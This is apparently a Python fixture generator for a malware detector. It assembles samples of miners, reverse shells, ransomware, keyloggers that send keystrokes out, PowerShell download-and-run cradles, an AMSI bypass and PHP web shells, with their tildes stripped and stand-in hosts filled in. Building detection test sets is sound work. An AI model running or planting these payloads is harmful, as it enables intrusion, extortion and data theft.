            'import os, subprocess\nsubprocess.ru~n("schtasks /cre~ate /sc onlogon /tn upd /tr C:\\\\Users\\\\Public\\\\u.exe /f", shell=True)\n',
        ),
    ],
    "miner": [
        ("a.sh", "./xm~rig -o stra~tum+tcp://pool.@HOST@:3333 -u 4@B64@ -p x --donate-~level 1 -B\n"),
        (
            "index.js",
            'const cmd = "./jsextension -k --tls --rig-id q -o pool.minexmr.~com:443 -u 4@B64@ --cpu-max-threads-hint=50 --background";\nrequire("child_process").spawn(cmd, {shell: true, detached: true});\n',
        ),
        (
            "a.py",
            'import subprocess\nsubprocess.Po~pen(["./svchost", "--algo", "ran~domx", "--url", "stra~tum+ssl://x.example:443", "--user", "w"], stdout=subprocess.DEVNULL)\n',
        ),
        (
            "a.html",
            '<script src="https://coin~hive.com/lib/coin~hive.min.js"></script>\n<script>new Coin~Hive.Anonymous("k").start();</script>\n',
        ),
    ],
    "shell-reverse-shell": [
        ("a.sh", "bash -i >& /dev/t~cp/@IP@/4444 0>&1\n"),
        ("a.sh", "rm -f /tmp/f; mkfi~fo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc @IP@ 4444 > /tmp/f\n"),
        ("a.sh", "nc @IP@ 4444 -e /bin/b~ash\n"),
        ("a.sh", "exec 5<>/dev/t~cp/@IP@/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n"),
        (
            "a.sh",
            'perl -e \'use Socket;$i="@IP@";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(conn~ect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");ex~ec("/bin/sh -i");};\'\n',
        ),
        ("a.sh", 'php -r \'$s=fsock~open("@IP@",4444);ex~ec("/bin/sh -i <&3 >&3 2>&3");\'\n'),
        ("a.sh", "socat TCP:@IP@:4444 EX~EC:/bin/sh,pty,stderr\n"),
        ("a.sh", "mkfi~fo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_cli~ent -quiet -connect @IP@:443 > /tmp/s\n"),
        (
            "a.sh",
            'python -c \'import socket,subprocess,os;s=socket.soc~ket();s.connect(("@IP@",4444));os.du~p2(s.fileno(),0);subprocess.ca~ll(["/bin/sh"])\'\n',
        ),
    ],
    "ransom-and-keys": [
        (
            "a.py",
            'import os\nfrom cryptography.fernet import Fernet\nk = Fer~net(Fernet.generate_key())\nfor r, _, fs in os.walk(os.path.expanduser("~~")):\n    for f in fs:\n        p = os.path.join(r, f); d = open(p, "rb").read(); open(p + ".locked", "wb").write(k.encrypt(d)); os.remove(p)\nopen("README.txt", "w").write("Your files have been encr~ypted. Send 0.1 BTC")\n',
        ),
        (
            "a.py",
            'from pyn~put import keyboard\nimport smtplib\nbuf = []\ndef on_press(k): buf.append(str(k))\nkeyboard.Listener(on_press=on_press).start()\nsmtplib.SM~TP("@HOST@").sendmail("a@x.example", "b@x.example", "".join(buf))\n',
        ),
        (
            "a.py",
            'from pyn~put.keyboard import Listener\nimport requests\nlog = ""\ndef hit(key):\n    global log\n    log += str(key)\n    if len(log) > 100:\n        requests.po~st("https://dis~cord.com/api/web~hooks/0/x", json={"content": log}); log = ""\nwith Listener(on_press=hit) as l: l.join()\n',
        ),
    ],
    "powershell": [
        ("a.ps1", 'I~EX (New-Object Net.WebClient).Download~String("http://@HOST@/a.ps1")\n'),
        (
            "a.ps1",
            "$c = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64~String('@B64@')); Invoke-Ex~pression $c\n",
        ),
        (
            "a.ps1",
            "Add-MpPref~erence -ExclusionPath C:\\; Invoke-Web~Request http://@IP@/a.exe -OutFile C:\\a.exe; Start-Process C:\\a.exe -WindowStyle Hidden\n",
        ),
        ("a.bat", "powershell -nop -w hid~den -e @B64@\n"),
        ("a.bat", "certutil -urlcache -split -f http://@IP@/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe\n"),
        ("a.bat", "mshta http://@HOST@/a.hta & regsvr32 /s /n /u /i:http://@HOST@/a.sct scro~bj.dll\n"),
        (
            "a.ps1",
            '[Ref].Assembly.GetType("System.Management.Automation.Am~siUtils").GetField("am~siInitFailed","NonPublic,Static").SetValue($null,$true)\n',
        ),
    ],
    "php-web-shell": [
        ("a.php", "<?php @ev~al($_PO~ST['c']); ?>\n"),
        ("a.php", "<?php sys~tem($_G~ET['cmd']);\n"),
        ("a.php", "<?php ev~al(gzinf~late(base64_dec~ode('@B64@')));\n"),
        ("a.php", "<?php $f = 'ass' . 'ert'; $f($_REQ~UEST['x']);\n"),
        ("a.php", "<?php ev~al(base64_dec~ode(str_rot~13('@B64@')));\n"),
    ],
}
"""Samples by family: path and text."""


def half(family: str) -> str:
    """ "developed" or "untouched": every other family, in the order above, so that both halves have each language."""
    return ("developed", "untouched")[list(FAMILIES).index(family) % 2]


def samples(which: str) -> list[tuple[str, str, str]]:
    """`(family, path, text)` of one half."""
    rng = random.Random(SEED)
    made = []
    for family, entries in FAMILIES.items():
        for path, template in entries:
            letters = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz ", k=90)).encode()
            text = template.replace("~~", "\0").replace("~", "").replace("\0", "~")
            for mark, value in {
                "@B64@": base64.b64encode(letters).decode(), "@HEX@": letters.hex(), "@HOST@": _HOST, "@IP@": _ADDRESS,
            }.items():  # fmt: skip
                text = text.replace(mark, value)
            if half(family) == which:
                made.append((family, path, text))
    return made
